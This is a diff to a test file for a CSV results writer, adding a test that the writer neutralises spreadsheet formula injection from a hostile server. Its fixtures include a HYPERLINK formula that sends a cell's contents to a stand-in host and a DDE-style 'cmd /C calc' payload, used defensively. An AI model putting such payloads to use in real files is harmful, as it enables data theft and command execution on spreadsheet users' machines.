@@ -2,6 +2,7 @@ import {mkdtemp, readdir, readFile} from 'node:fs/promises';
 import {tmpdir} from 'node:os';
 import path from 'node:path';
 import {PassThrough} from 'node:stream';
+import {parse} from 'csv-parse/sync';
 import {describe, expect, it} from 'vitest';
 import {createProgress, renderBar} from '../../src/order/progress.js';
 import {writeResultsCsv} from '../../src/order/results-csv.js';
@@ -32,7 +33,7 @@ describe('progress bar', () => {
 });
 
 describe('results file', () => {
-  it('is written whole, sorted by row, quoting what needs it, with no temporary file left', async () => {
+  it('is written whole for a spreadsheet (BOM, CRLF), sorted by row, quoting what needs it, with no temporary file left', async () => {
     const dir = await mkdtemp(path.join(tmpdir(), 'btalk-results-'));
     const file = path.join(dir, 'sites.results.csv');
     await writeResultsCsv(file, [
@@ -40,8 +41,39 @@ describe('results file', () => {
       {row: 2, technicalSiteName: 'A', status: 'ok', voiceSiteId: 'vs1'},
     ]);
     expect(await readFile(file, 'utf8')).toBe(
-      'row,technicalSiteName,status,voiceSiteId,error,requestId\n2,A,ok,vs1,,\n3,B,failed,,"The server answered 503, ""busy"".",req-1\n',
+      '\ufeffrow,technicalSiteName,customerSiteLabel,status,voiceSiteId,error,requestId\r\n2,A,,ok,vs1,,\r\n3,B,,failed,,"The server answered 503, ""busy"".",req-1\r\n',
     );
     expect(await readdir(dir)).toEqual(['sites.results.csv']);
+  });
+});
+
+describe('results file from a hostile server', () => {
+  it('writes no cell a spreadsheet would run as a formula, in the separator asked for', async () => {
+    const dir = await mkdtemp(path.join(tmpdir(), 'btalk-results-'));
+    const file = path.join(dir, 'sites.results.csv');
+    const hostile = ['=HYPERLINK("http://evil.invalid/?"&B2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\t=1+1', '\r=1+1', '\uff1d1+1'];
+    await writeResultsCsv(
+      file,
+      hostile.map((id, i) => ({row: i + 2, technicalSiteName: `SITE_${i}`, customerSiteLabel: 'Siège Paris', status: 'ok' as const, voiceSiteId: id, requestId: id, error: id})),
+      ';',
+    );
+    const bytes = await readFile(file);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.toString('utf8');
+    expect(text).toContain('Siège Paris');
+    const records = parse(text, {bom: true, delimiter: ';', record_delimiter: '\r\n', relax_quotes: false}) as string[][];
+    expect(records[0]).toEqual(['row', 'technicalSiteName', 'customerSiteLabel', 'status', 'voiceSiteId', 'error', 'requestId']);
+    expect(records).toHaveLength(hostile.length + 1);
+    const cells = records.flat();
+    // The test of a spreadsheet: no cell it reads begins a formula.
+    const formula = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
+    expect(cells.filter((c) => formula.test(c))).toEqual([]);
+    // Nothing was lost: each cell is the server's value behind one quote.
+    records.slice(1).forEach((r, i) => {
+      expect(r[4]).toBe(`'${hostile[i]}`);
+      expect(r[6]).toBe(`'${hostile[i]}`);
+    });
+    // And each such cell is quoted in the file, as OWASP asks.
+    expect(text).toContain(`;"'=HYPERLINK(""http://evil.invalid/?""&B2,""open"")";`);
   });
 });
